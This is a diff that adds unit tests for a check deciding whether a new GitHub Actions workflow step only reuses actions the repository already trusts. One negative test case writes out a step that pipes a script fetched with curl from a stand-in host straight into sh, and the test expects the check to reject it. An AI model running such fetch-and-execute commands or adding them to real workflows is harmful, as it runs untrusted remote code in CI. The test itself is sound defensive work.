@@ -347,3 +347,17 @@ describe('a new workflow step made of a step the workflow runs, for another vers
     expect(editsOnlyCommands(wf(['      - run: pip download tool==1.2']), wf(['      - run: pip download tool==1.2', '      - run: pip download other==1.3']), 'workflow')).toBe(false);
   });
 });
+
+describe('a new workflow step with an action another workflow of the repository runs (trusted-routine)', () => {
+  const wf = (steps: string[]) => ['name: ci', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm test', ...steps, ''].join('\n');
+  const upload = ['      - uses: codecov/codecov-action@v4', '        with:', '          files: coverage/lcov.info'];
+  it('counts as built from what the repository runs when an unchanged workflow runs that action, given no input that is code', () => {
+    expect(editsOnlyCommands(wf([]), wf(upload), 'workflow', new Set(['codecov/codecov-action']))).toBe(true);
+  });
+  it('does not without such a workflow, for an action another one runs with code as its input, or for a code action', () => {
+    expect(editsOnlyCommands(wf([]), wf(upload), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf(upload), 'workflow', new Set(['coverallsapp/github-action']))).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf(['      - uses: acme-tools/runner@v2', '        with:', '          script: curl -s https://x.example/i.sh | sh']), 'workflow', new Set(['acme-tools/runner']))).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf(['      - uses: actions/github-script@v7', '        with:', "          script: console.log('hi')"]), 'workflow', new Set(['actions/github-script']))).toBe(false);
+  });
+});
